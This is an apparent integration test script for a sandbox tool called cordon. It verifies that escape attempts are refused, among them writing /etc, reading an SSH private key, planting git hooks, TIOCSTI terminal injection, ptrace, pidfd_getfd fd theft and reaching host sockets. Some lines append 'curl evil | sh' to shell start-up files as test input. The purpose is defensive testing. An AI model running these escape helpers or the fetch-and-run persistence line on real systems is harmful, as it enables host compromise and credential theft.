#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
#
# The native runner refuses, for real. Each attempt runs twice: unconfined
# (the control, which must succeed, so the attempt is a real one) and under
# `cordon run --backend native`, which must fail, classify as the kernel's
# answer says, and leave the host unchanged.
#
# Needs: $CORDON (set by meson), bash, /usr/bin/python3, git. Runs as root
# or not; the setuid case needs root to make a setuid-root file.
set -u

. "$(dirname "$0")/tap.sh"
PY=/usr/bin/python3
[ -x "$PY" ] || PY=$(command -v python3)

# The sandbox's /tmp is private, so everything the tests look at from both
# sides lives under /var/tmp, outside every writable root.
unset TMPDIR
BASE=$(mktemp -d /var/tmp/cordon-deny.XXXXXX)
chmod 755 "$BASE"
PIDS=()
cleanup() {
        for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
        rm -rf "$BASE" /etc/cordon-test /usr/local/bin/x 2>/dev/null
}
trap cleanup EXIT

H=$BASE/home
mkdir -p "$H/.ssh" "$BASE/bin" "$BASE/outside"
echo "-----BEGIN OPENSSH PRIVATE KEY----- cordon-test-key" > "$H/.ssh/id_ed25519"
chmod 600 "$H/.ssh/id_ed25519"
echo "# rc" > "$H/.bashrc"
echo "outside" > "$BASE/outside/file"

new_ws() { # a fresh git workspace
        local ws=$BASE/ws.$1
        mkdir -p "$ws"
        git -C "$ws" init -q
        git -C "$ws" config user.email t@example.org
        git -C "$ws" config user.name t
        echo "$ws"
}

# cordon run in WS with HOME=$H; prints the JSON result.
crun() {
        local ws=$1
        shift
        (cd "$ws" && HOME=$H "$CORDON" run --backend native --json "$@")
}
field() { "$PY" -c 'import json,sys; v=json.load(sys.stdin)[sys.argv[1]]; print("" if v is None else v)' "$1"; }
first_line() { field "$1" | sed -n 1p; }

# expect_denied DESC JSON: the run failed and classify said "denied".
expect_denied() {
        local desc=$1 json=$2 v e
        v=$(field verdict <<<"$json")
        e=$(field exit_code <<<"$json")
        if [ "$v" = denied ] && [ "$e" != 0 ]; then
                ok "$desc (denied)"
        else
                not_ok "$desc: expected a denial, got verdict=$v exit=$e"
                diag "$json"
        fi
}
# expect_failed DESC JSON: the attempt failed (not necessarily with a
# denial errno: what is absent cannot be refused) and the runner itself did not.
expect_failed() {
        local desc=$1 json=$2 v e
        v=$(field verdict <<<"$json")
        e=$(field exit_code <<<"$json")
        if [ "$v" != runner_failed ] && [ "$e" != 0 ]; then
                ok "$desc (failed: $(field output <<<"$json" | sed -n '$p'))"
        else
                not_ok "$desc: expected the attempt to fail, got verdict=$v exit=$e"
                diag "$json"
        fi
}
control() { # control DESC CMD...: must succeed unconfined, else the attempt proves nothing
        local desc=$1
        shift
        if "$@" >/dev/null 2>&1; then
                return 0
        fi
        not_ok "control failed, so the attempt would prove nothing: $desc"
        return 1
}
host_check() { # host_check DESC TEST...
        local desc=$1
        shift
        if "$@"; then ok "host unchanged: $desc"; else not_ok "host changed: $desc"; fi
}

# ---- helper programs -------------------------------------------------------

cat > "$BASE/bin/tiocsti.py" <<'EOF'
import ctypes, fcntl, os, sys, termios
libc = ctypes.CDLL(None, use_errno=True)
TIOCSTI = 0x5412
req = TIOCSTI | (1 << 32) if len(sys.argv) > 1 and sys.argv[1] == "high" else TIOCSTI
m, s = os.openpty()
try:
    os.setsid()
except OSError:
    pass
try:
    fcntl.ioctl(s, termios.TIOCSCTTY, 0)
except OSError:
    pass
c = ctypes.c_char(b"x")
if libc.ioctl(s, ctypes.c_ulong(req), ctypes.byref(c)) < 0:
    print("TIOCSTI:", os.strerror(ctypes.get_errno()))
    sys.exit(1)
print("TIOCSTI: injected")
EOF

cat > "$BASE/bin/io_uring.py" <<'EOF'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 8, params)
if fd < 0:
    print("io_uring_setup:", os.strerror(ctypes.get_errno()))
    sys.exit(1)
print("io_uring_setup: ok")
EOF

cat > "$BASE/bin/ptrace.py" <<'EOF'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
if libc.ptrace(16, pid, None, None) < 0:  # PTRACE_ATTACH
    print("ptrace:", os.strerror(ctypes.get_errno()))
    sys.exit(1)
libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
print("ptrace: attached")
EOF

# pidfd_getfd of fd 1 of a process: "child" (one it forks: same uid, its
# own, so ptrace's check passes) or "parent"
cat > "$BASE/bin/pidfd.py" <<'EOF'
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if sys.argv[1] == "child":
    pid = os.fork()
    if pid == 0:
        time.sleep(30)
        os._exit(0)
else:
    pid = os.getppid()
pidfd = os.pidfd_open(pid)
fd = libc.syscall(ctypes.c_long(438), ctypes.c_int(pidfd), ctypes.c_int(1), ctypes.c_uint(0))  # pidfd_getfd
err = ctypes.get_errno()
if sys.argv[1] == "child":
    os.kill(pid, 9)
    os.waitpid(pid, 0)
if fd < 0:
    print("pidfd_getfd:", os.strerror(err))
    sys.exit(1)
print("pidfd_getfd: took fd 1 of", pid, "as", fd)
EOF

# A listener that records anything reaching it: KIND PORTFILE MARKFILE [NAME]
cat > "$BASE/bin/listen.py" <<'EOF'
import os, socket, sys
kind, portfile, mark = sys.argv[1:4]
if kind == "tcp":
    s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(8)
elif kind == "udp":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0))
else:
    s = socket.socket(socket.AF_UNIX); s.bind("\0" + sys.argv[4]); s.listen(8)
port = s.getsockname()[1] if kind != "abstract" else 0
with open(portfile + ".tmp", "w") as f:
    f.write(str(port))
os.rename(portfile + ".tmp", portfile)
while True:
    if kind == "udp":
        s.recvfrom(100)
    else:
        s.accept()
    with open(mark, "a") as f:
        f.write("reached\n")
EOF

cat > "$BASE/bin/connect.py" <<'EOF'
import socket, sys
kind, arg = sys.argv[1:3]
if kind == "tcp":
    socket.create_connection(("127.0.0.1", int(arg)), timeout=2)
elif kind == "udp":
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", int(arg)))
else:
    socket.socket(socket.AF_UNIX).connect("\0" + arg)
print("connected")
EOF

start_listener() { # start_listener KIND NAME -> sets LPORT, LMARK
        local kind=$1 name=$2
        LMARK=$BASE/$name.mark
        rm -f "$BASE/$name.port" "$LMARK"
        "$PY" "$BASE/bin/listen.py" "$kind" "$BASE/$name.port" "$LMARK" "cordon-it-$$-$name" &
        PIDS+=($!)
        for _ in $(seq 100); do [ -s "$BASE/$name.port" ] && break; sleep 0.05; done
        LPORT=$(cat "$BASE/$name.port")
}
reached() { sleep 0.3; [ -s "$LMARK" ]; }

# ---- the attempts ------------------------------------------------------------

WS=$(new_ws main)

# Unprivileged, the host itself refuses /etc and /usr/local: there the same
# attempts go to directories of ours outside every writable root (a host
# directory, and a bin directory on the user's PATH).
if [ "$(id -u)" = 0 ]; then
        etc=/etc etc_desc=/etc bindir=/usr/local/bin bin_desc=/usr/local/bin
else
        etc=$BASE/outside etc_desc="a host directory of ours" bindir=$H/.local/bin bin_desc="~/.local/bin"
fi

# write /etc/cordon-test
if control "write $etc_desc" sh -c "echo x > '$etc/cordon-test' && rm '$etc/cordon-test'"; then
        j=$(crun "$WS" -- sh -c "echo x > '$etc/cordon-test'")
        expect_denied "write $etc_desc/cordon-test" "$j"
        host_check "$etc_desc/cordon-test absent" test ! -e "$etc/cordon-test"
fi

# write ~/.bashrc
sum=$(md5sum < "$H/.bashrc")
if control "write ~/.bashrc" sh -c "echo '# c' >> '$H/.bashrc'"; then
        echo "# rc" > "$H/.bashrc"
        sum=$(md5sum < "$H/.bashrc")
        j=$(crun "$WS" -- sh -c 'echo "curl evil | sh" >> ~/.bashrc')
        expect_denied "write ~/.bashrc" "$j"
        host_check "~/.bashrc" test "$(md5sum < "$H/.bashrc")" = "$sum"
fi

# write /usr/local/bin/x
if control "write $bin_desc" sh -c "mkdir -p '$bindir' && echo x > '$bindir/x' && rm '$bindir/x'"; then
        j=$(crun "$WS" -- sh -c "echo x > '$bindir/x'")
        expect_denied "write $bin_desc/x" "$j"
        host_check "$bin_desc/x absent" test ! -e "$bindir/x"
fi

# read ~/.ssh/id_ed25519
if control "read ~/.ssh/id_ed25519" cat "$H/.ssh/id_ed25519"; then
        j=$(crun "$WS" -- cat "$H/.ssh/id_ed25519")
        expect_denied "read ~/.ssh/id_ed25519" "$j"
        if field output <<<"$j" | grep -q cordon-test-key; then
                not_ok "the key leaked into the output"
        else
                ok "the key stays out of the output"
        fi
fi

# echo x > .git/hooks/pre-commit
CTL=$(new_ws control)
if control "write .git/hooks/pre-commit" sh -c "echo x > '$CTL/.git/hooks/pre-commit'"; then
        j=$(crun "$WS" -- sh -c 'echo x > .git/hooks/pre-commit')
        expect_denied "echo x > .git/hooks/pre-commit" "$j"
        host_check ".git/hooks/pre-commit absent" test ! -e "$WS/.git/hooks/pre-commit"
fi

# git config core.hooksPath /tmp/h
sum=$(md5sum < "$WS/.git/config")
if control "git config core.hooksPath" git -C "$CTL" config core.hooksPath /tmp/h; then
        j=$(crun "$WS" -- git config core.hooksPath /tmp/h)
        expect_denied "git config core.hooksPath /tmp/h" "$j"
        host_check ".git/config" test "$(md5sum < "$WS/.git/config")" = "$sum"
fi

# create .git/hooks after rm -rf .git && git init
W2=$(new_ws reinit)
if control "rm -rf .git && git init && write a hook" sh -c "cd '$CTL' && rm -rf .git && git init -q && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"; then
        j=$(crun "$W2" -- sh -c 'rm -rf .git; git init -q; mkdir -p .git/hooks; echo x > .git/hooks/pre-commit')
        expect_denied "create .git/hooks after rm -rf .git && git init" "$j"
        host_check "no hook after re-init" test ! -e "$W2/.git/hooks/pre-commit"
fi

# mv .git .g && mkdir -p .git/hooks
W3=$(new_ws rename)
CTL2=$(new_ws control2)
if control "mv .git .g && mkdir -p .git/hooks" sh -c "cd '$CTL2' && mv .git .g && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"; then
        j=$(crun "$W3" -- sh -c 'mv .git .g && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit')
        expect_denied "mv .git .g && mkdir -p .git/hooks" "$j"
        host_check ".git stays, no .g, no hook" test -d "$W3/.git/objects" -a ! -e "$W3/.g" -a ! -e "$W3/.git/hooks/pre-commit"
fi

# the same without a .git at all: an empty .git may be made (git init works,
# git.t), nothing in it that runs code
W4=$BASE/ws.nogit
mkdir -p "$W4"
if control "mkdir -p .git/hooks in a plain directory" sh -c "mkdir -p '$BASE/ctl.nogit/.git/hooks'"; then
        j=$(crun "$W4" -- sh -c 'mkdir -p .git/hooks && echo x > .git/hooks/pre-commit')
        expect_denied "create .git/hooks where there is no .git" "$j"
        host_check "no .git/hooks on the host, only the empty .git" test "$(ls -A "$W4")" = .git -a -z "$(ls -A "$W4/.git")"
fi

# a symlink in the workspace to a file outside, written through
ln -s "$BASE/outside/file" "$WS/link"
if control "write through a symlink" sh -c "cp '$BASE/outside/file' '$BASE/outside/copy' && ln -s '$BASE/outside/copy' '$BASE/outside/l' && echo x >> '$BASE/outside/l'"; then
        j=$(crun "$WS" -- sh -c 'echo pwned >> link')
        expect_denied "write through a symlink to a file outside" "$j"
        host_check "the file outside" test "$(cat "$BASE/outside/file")" = outside
fi

# TIOCSTI into a terminal, also with the high 32 bits set
for variant in low high; do
        if control "TIOCSTI ($variant)" "$PY" "$BASE/bin/tiocsti.py" $variant; then
                j=$(crun "$WS" -- "$PY" "$BASE/bin/tiocsti.py" $variant)
                expect_denied "TIOCSTI ($variant bits)" "$j"
        else
                skip "TIOCSTI ($variant): the control cannot inject here"
        fi
done

# io_uring_setup
if control "io_uring_setup" "$PY" "$BASE/bin/io_uring.py"; then
        j=$(crun "$WS" -- "$PY" "$BASE/bin/io_uring.py")
        expect_denied "io_uring_setup returns EPERM" "$j"
        field output <<<"$j" | grep -q "Operation not permitted" && ok "io_uring_setup: EPERM exactly" ||
                not_ok "io_uring_setup: not EPERM: $(field output <<<"$j")"
else
        skip "io_uring_setup: disabled on this host"
fi

# ptrace attach to a sibling
if control "ptrace a sibling" bash -c "sleep 30 & p=\$!; '$PY' '$BASE/bin/ptrace.py' \$p; r=\$?; kill -9 \$p; exit \$r"; then
        j=$(crun "$WS" -- bash -c "sleep 30 & p=\$!; '$PY' '$BASE/bin/ptrace.py' \$p; r=\$?; kill -9 \$p; exit \$r")
        expect_denied "ptrace attach to a sibling" "$j"
fi

# pidfd_getfd: taking another process's fds (its own child's, its parent's)
for t in child parent; do
        if control "pidfd_getfd of a $t's fd" bash -c "'$PY' '$BASE/bin/pidfd.py' $t; exit \$?"; then
                j=$(crun "$WS" -- bash -c "'$PY' '$BASE/bin/pidfd.py' $t; exit \$?")
                expect_denied "pidfd_getfd of a $t's fd" "$j"
                if ! field output <<<"$j" | grep -q 'pidfd_getfd: Operation not permitted'; then
                        not_ok "pidfd_getfd of a $t's fd: not EPERM"
                        diag "$j"
                fi
        fi
done

# kill -9 of a host pid
sleep 300 &
VICTIM=$!
PIDS+=($VICTIM)
sleep 300 &
CTLV=$!
disown $CTLV
if control "kill -9 a host pid" kill -9 $CTLV; then
        j=$(crun "$WS" -- kill -9 $VICTIM)
        expect_failed "kill -9 of host pid $VICTIM" "$j"
        host_check "pid $VICTIM alive" kill -0 $VICTIM
        j=$(crun "$WS" --isolation light -- kill -9 $VICTIM)
        expect_denied "kill -9 of a host pid, light isolation (Landlock signal scope)" "$j"
        host_check "pid $VICTIM alive (light)" kill -0 $VICTIM
fi

# TCP connect to a host listener on 127.0.0.1
start_listener tcp tcp
if control "TCP connect to 127.0.0.1" "$PY" "$BASE/bin/connect.py" tcp "$LPORT" && reached; then
        rm -f "$LMARK"
        # Full isolation: 127.0.0.1 is the sandbox's own loopback (where
        # TCP is allowed), so the host's listener is simply not there.
        j=$(crun "$WS" -- "$PY" "$BASE/bin/connect.py" tcp "$LPORT")
        expect_failed "TCP connect to a host listener on 127.0.0.1 (its own loopback)" "$j"
        host_check "the TCP listener saw nothing" eval '! reached'
        j=$(crun "$WS" --isolation light -- "$PY" "$BASE/bin/connect.py" tcp "$LPORT")
        expect_denied "TCP connect to 127.0.0.1, light isolation" "$j"
        host_check "the TCP listener saw nothing (light)" eval '! reached'
fi

# The other way: a server the sandbox starts on its loopback is not the
# host's. serve.py PORT READY: listen on 127.0.0.1:PORT, say so, wait 3 s.
cat > "$BASE/bin/serve.py" <<'EOF'
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(8)
open(sys.argv[2], "w").write("up")
time.sleep(3)
EOF
SPORT=$("$PY" -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
host_reaches() { # host_reaches READYFILE: wait for it, then try a connect from the host
        for _ in $(seq 100); do [ -s "$1" ] && break; sleep 0.05; done
        [ -s "$1" ] && "$PY" "$BASE/bin/connect.py" tcp "$SPORT" >/dev/null 2>&1
}
rm -f "$WS/ready"
"$PY" "$BASE/bin/serve.py" "$SPORT" "$WS/ready" &
SPID=$!
if host_reaches "$WS/ready"; then
        ok "control: a server on the host's 127.0.0.1:$SPORT is reachable from the host"
        wait $SPID
        rm -f "$WS/ready"
        crun "$WS" -- "$PY" "$BASE/bin/serve.py" "$SPORT" ready >/dev/null &
        SPID=$!
        if host_reaches "$WS/ready"; then
                not_ok "the sandbox's server on 127.0.0.1:$SPORT is reachable from the host"
        elif [ -s "$WS/ready" ]; then
                ok "the sandbox's server on its 127.0.0.1:$SPORT is not reachable from the host"
        else
                not_ok "the sandbox's server never started"
        fi
        wait $SPID
        rm -f "$WS/ready"
else
        not_ok "control failed, so the attempt would prove nothing: a host server on 127.0.0.1"
        wait $SPID
fi

# UDP sendto 127.0.0.1
start_listener udp udp
if control "UDP sendto 127.0.0.1" "$PY" "$BASE/bin/connect.py" udp "$LPORT" && reached; then
        rm -f "$LMARK"
        # Full isolation: 127.0.0.1 is the sandbox's own loopback, so the
        # datagram is sent and lost; what matters is that the host never sees it.
        j=$(crun "$WS" -- "$PY" "$BASE/bin/connect.py" udp "$LPORT")
        host_check "the UDP listener saw nothing (network namespace)" eval '! reached'
        j=$(crun "$WS" --isolation light -- "$PY" "$BASE/bin/connect.py" udp "$LPORT")
        expect_denied "UDP sendto 127.0.0.1, light isolation (seccomp: no IP sockets)" "$j"
        host_check "the UDP listener saw nothing (light)" eval '! reached'
fi

# an abstract unix socket listener started outside
start_listener abstract abs
if control "abstract socket connect" "$PY" "$BASE/bin/connect.py" abstract "cordon-it-$$-abs" && reached; then
        rm -f "$LMARK"
        j=$(crun "$WS" -- "$PY" "$BASE/bin/connect.py" abstract "cordon-it-$$-abs")
        expect_failed "abstract unix socket outside is unreachable (network namespace)" "$j"
        host_check "the abstract listener saw nothing" eval '! reached'
        j=$(crun "$WS" --net host -- "$PY" "$BASE/bin/connect.py" abstract "cordon-it-$$-abs")
        expect_denied "abstract unix socket outside, --net host (Landlock scope)" "$j"
        host_check "the abstract listener saw nothing (--net host)" eval '! reached'
fi

# /proc shows only the sandbox's processes (the control: the host's shows
# the victim and more than the sandbox's handful)
j=$(crun "$WS" -- sh -c "ls /proc | grep -c '^[0-9]*\$'; test ! -e /proc/$VICTIM")
if ! [ -e /proc/$VICTIM ] || [ "$(ls /proc | grep -c '^[0-9]*$')" -lt 10 ]; then
        not_ok "control: the host's /proc shows $VICTIM and at least 10 processes"
elif [ "$(field exit_code <<<"$j")" = 0 ] && [ "$(first_line output <<<"$j")" -lt 10 ]; then
        ok "/proc shows only the sandbox's processes ($(first_line output <<<"$j") pids, not $VICTIM)"
else
        not_ok "/proc shows host processes"
        diag "$j"
fi

# NoNewPrivs 1, CapEff 0
j=$(crun "$WS" -- grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd|CapAmb|CapInh):' /proc/self/status)
out=$(field output <<<"$j")
if grep -q 'NoNewPrivs:.1' <<<"$out" && [ "$(grep -c ':.0000000000000000' <<<"$out")" = 5 ]; then
        ok "NoNewPrivs is 1, every capability set is 0"
else
        not_ok "privileges inside: $out"
fi

# unshare -Ur true
if control "unshare -Ur true" unshare -Ur true; then
        j=$(crun "$WS" -- unshare -Ur true)
        expect_denied "unshare -Ur true" "$j"
fi

# secrets in the environment
j=$(cd "$WS" && HOME=$H AWS_SECRET_ACCESS_KEY=aws-secret-value GITHUB_TOKEN=ghp_secret_value \
        "$CORDON" run --backend native --json -- env)
out=$(field output <<<"$j")
if [ "$(field exit_code <<<"$j")" = 0 ] && ! grep -qE 'AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|secret_value|aws-secret' <<<"$out"; then
        ok "AWS_SECRET_ACCESS_KEY and GITHUB_TOKEN are absent inside"
else
        not_ok "secrets reached the sandbox"
        diag "$j"
fi

# an fd opened outside (exec 9>file) is not writable inside
: > "$BASE/outside/fdfile"
if control "write to an inherited fd" bash -c "exec 9>>'$BASE/outside/fdfile'; echo ctl >&9"; then
        : > "$BASE/outside/fdfile"
        j=$(exec 9>>"$BASE/outside/fdfile"; crun "$WS" -- sh -c 'echo leaked >&9')
        expect_failed "an fd opened outside is not writable inside" "$j"
        host_check "the fd's file" test ! -s "$BASE/outside/fdfile"
fi

# a setuid binary gains nothing
if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
        SW=$BASE/ws.suid
        mkdir -p "$SW"
        cp /bin/cat "$SW/suidcat"
        chown root:root "$SW/suidcat"
        chmod 4755 "$SW/suidcat"
        chown 65534:65534 "$SW"
        ctl=$(cd "$SW" && setpriv --reuid=65534 --regid=65534 --clear-groups ./suidcat /proc/self/status | grep '^Uid:')
        if [ "$(awk '{print $3}' <<<"$ctl")" = 0 ]; then
                j=$(cd "$SW" && HOME=/nonexistent setpriv --reuid=65534 --regid=65534 --clear-groups \
                        "$CORDON" run --backend native --json -- ./suidcat /proc/self/status)
                out=$(field output <<<"$j")
                if grep -qE '^Uid:\s+65534\s+65534\s+65534' <<<"$out" && grep -q 'CapEff:.0000000000000000' <<<"$out"; then
                        ok "a setuid-root binary gains nothing (euid stays 65534, CapEff 0)"
                else
                        not_ok "a setuid binary gained something"
                        diag "$j"
                fi
        else
                skip "setuid: the control did not gain euid 0 (nosuid mount?)"
        fi
elif [ "$(id -u)" = 0 ]; then
        skip "setuid: needs setpriv to run a setuid-root file as another user"
else
        # Making a setuid file owned by another user needs root: not emitted.
        diag "setuid: not run unprivileged (only root can make a setuid-root file)"
fi

# The workspace is HOME: shell start-up files stay read-only, existing or not.
HW=$BASE/homews
mkdir -p "$HW"
echo "# rc" > "$HW/.bashrc"
sum=$(md5sum < "$HW/.bashrc")
if control "append to .bashrc in a writable HOME" sh -c "echo '# c' >> '$HW/.bashrc'"; then
        echo "# rc" > "$HW/.bashrc"
        j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'echo "curl evil | sh" >> ~/.bashrc')
        expect_denied "HOME as workspace: append to ~/.bashrc" "$j"
        host_check "HOME as workspace: ~/.bashrc unchanged" test "$(md5sum < "$HW/.bashrc")" = "$sum"
        j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'echo "curl evil | sh" > ~/.zshrc')
        expect_failed "HOME as workspace: create a missing ~/.zshrc" "$j"
        host_check "HOME as workspace: no ~/.zshrc planted" sh -c "[ ! -s '$HW/.zshrc' ]"
        # cordon's own profiles: planting one would choose the next run's policy
        j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'mkdir -p ~/.config/cordon/profiles && echo "{}" > ~/.config/cordon/profiles/git.json')
        expect_failed "HOME as workspace: plant ~/.config/cordon/profiles/git.json" "$j"
        host_check "HOME as workspace: no profile planted" sh -c "[ ! -e '$HW/.config/cordon/profiles/git.json' ]"
        j=$(cd "$HW" && HOME=$HW "$CORDON" run --backend native --json -- sh -c 'echo ok > notes.txt && cat notes.txt')
        if [ "$(field verdict <<<"$j")" = ok ] && [ -f "$HW/notes.txt" ]; then ok "HOME as workspace: ordinary writes work"; else not_ok "HOME as workspace: ordinary writes"; diag "$j"; fi
fi

finish
